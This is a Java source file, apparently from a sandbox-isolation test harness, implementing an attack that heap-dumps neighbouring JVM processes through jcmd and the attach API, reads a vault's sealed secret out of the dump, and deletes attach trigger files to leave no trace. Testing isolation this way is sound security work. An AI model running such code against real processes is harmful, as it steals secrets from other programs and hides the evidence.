package flexos.attacks.hostile.sandbox;

import com.sun.management.HotSpotDiagnosticMXBean;
import com.sun.tools.attach.VirtualMachine;
import flexos.attacks.api.Vault;
import flexos.attacks.hostile.HostMemory;
import flexos.attacks.hostile.HostileLibrary;
import java.io.IOException;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import javax.management.MBeanServerConnection;
import javax.management.remote.JMXConnector;
import javax.management.remote.JMXConnectorFactory;
import javax.management.remote.JMXServiceURL;

/**
 * Dumps the heap of the vault's process and reads the vault's static {@code sealed} from the dump, as the review did
 * with {@code jcmd}, whose attach mechanism gets past the non-dumpable flag: at each sibling and at the image, first
 * {@code jcmd <pid> GC.heap_dump}, then the attach API (attach, start the target's local management agent, and ask
 * its {@code HotSpotDiagnosticMXBean} for the dump). In-process the vault's heap is this JVM's own, which the
 * platform {@code HotSpotDiagnosticMXBean} dumps without attaching.
 */
public final class DumpNeighbours extends HostileLibrary {

    /**
     * How long one attach may wait for its target to answer. The attach protocol waits 10 s by default; the attack
     * tries two ways at two processes and must be over within the hostile compartment's call timeout (5 s).
     */
    private static final String ATTACH_TIMEOUT_MILLIS = "800";
    private static final long JCMD_MILLIS = 2_500;

    public DumpNeighbours() {
        super("dump-neighbours");
    }

    @Override
    protected long attack(Vault vault, long secretAddress) throws Exception {
        if (!Neighbours.inCompartmentProcess()) {
            Path dump = dumpPath(ProcessHandle.current().pid());
            ManagementFactory.getPlatformMXBean(HotSpotDiagnosticMXBean.class).dumpHeap(dump.toString(), true);
            return sealedIn(dump);
        }
        List<Long> targets = Neighbours.others();
        try {
            // Every jcmd at once: each may wait for its target as long as the attach protocol lets it.
            Map<Long, Path> dumps = new LinkedHashMap<>();
            List<Process> running = new ArrayList<>();
            for (long pid : targets) {
                Path dump = dumpPath(pid);
                dumps.put(pid, dump);
                jcmd(pid, dump).ifPresent(running::add);
            }
            long deadline = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(JCMD_MILLIS);
            for (Process jcmd : running) {
                if (!jcmd.waitFor(Math.max(0, deadline - System.nanoTime()), TimeUnit.NANOSECONDS)) {
                    jcmd.destroyForcibly();
                }
            }
            for (long pid : targets) {
                long found = sealedIn(dumps.get(pid));
                if (found == 0) {
                    found = sealedIn(attachApi(pid));
                }
                if (found != 0) {
                    return found;
                }
            }
            return 0;
        } finally {
            for (long pid : targets) {
                // The attach protocol leaves its trigger file where the target looks for it: no trace.
                deleteQuietly(Path.of("/proc/" + pid + "/cwd/.attach_pid" + pid));
                deleteQuietly(Path.of(System.getProperty("java.io.tmpdir"), ".attach_pid" + pid));
            }
        }
    }

    /** Where {@code pid}'s dump goes: the temporary directory, which every unsandboxed process may write and read. */
    private static Path dumpPath(long pid) {
        return Path.of(System.getProperty("java.io.tmpdir"), "flexos-dump-" + pid + "-" + System.nanoTime() + ".hprof");
    }

    /** {@code jcmd pid GC.heap_dump dump}, started; empty when no program may be run. */
    private static Optional<Process> jcmd(long pid, Path dump) {
        try {
            return Optional.of(new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "jcmd").toString(),
                    "-J-Dsun.tools.attach.attachTimeout=" + ATTACH_TIMEOUT_MILLIS, Long.toString(pid), "GC.heap_dump",
                    dump.toString()).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .start());
        } catch (IOException | RuntimeException e) {
            return Optional.empty();
        }
    }

    /** The dump the attach API had {@code pid} make of itself, or null. */
    private static Path attachApi(long pid) {
        Path dump = dumpPath(pid);
        try {
            System.setProperty("sun.tools.attach.attachTimeout", ATTACH_TIMEOUT_MILLIS);
            VirtualMachine target = VirtualMachine.attach(Long.toString(pid));
            try (JMXConnector jmx = JMXConnectorFactory.connect(new JMXServiceURL(target.startLocalManagementAgent()))) {
                MBeanServerConnection server = jmx.getMBeanServerConnection();
                ManagementFactory.newPlatformMXBeanProxy(server, "com.sun.management:type=HotSpotDiagnostic",
                        HotSpotDiagnosticMXBean.class).dumpHeap(dump.toString(), true);
            } finally {
                target.detach();
            }
            return dump;
        } catch (Exception e) {
            return null;
        }
    }

    private static void deleteQuietly(Path file) {
        try {
            Files.deleteIfExists(file);
        } catch (IOException | RuntimeException e) {
            // Not there, or not ours to delete.
        }
    }

    /** The vault's sealed secret in {@code dump}, which is then deleted; 0 if there is none. */
    private static long sealedIn(Path dump) {
        if (dump == null) {
            return 0;
        }
        try {
            byte[] bytes;
            try (InputStream in = Files.newInputStream(dump)) {
                bytes = in.readAllBytes();
            }
            return new HostMemory.Hprof(ByteBuffer.wrap(bytes)).staticLong("flexos/attacks/victim/VaultService",
                    "sealed");
        } catch (IOException | RuntimeException e) {
            return 0;
        } finally {
            deleteQuietly(dump);
        }
    }
}
